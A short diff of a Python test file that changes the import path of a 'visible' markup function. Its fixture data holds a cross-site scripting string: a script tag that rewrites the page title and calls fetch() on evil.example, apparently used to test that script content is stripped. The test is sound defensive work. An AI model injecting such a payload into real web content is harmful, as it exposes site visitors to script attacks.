@@ -11,7 +11,7 @@ import pytest
 from conftest import Kept, Project, need
 from playwright.sync_api import Browser
 
-from analysis.values.wording import visible
+from analysis.markup import visible
 
 LINES = {
     "script": "BMW said on Friday <script>document.title='owned';fetch('https://evil.example')</script> that it is so.",
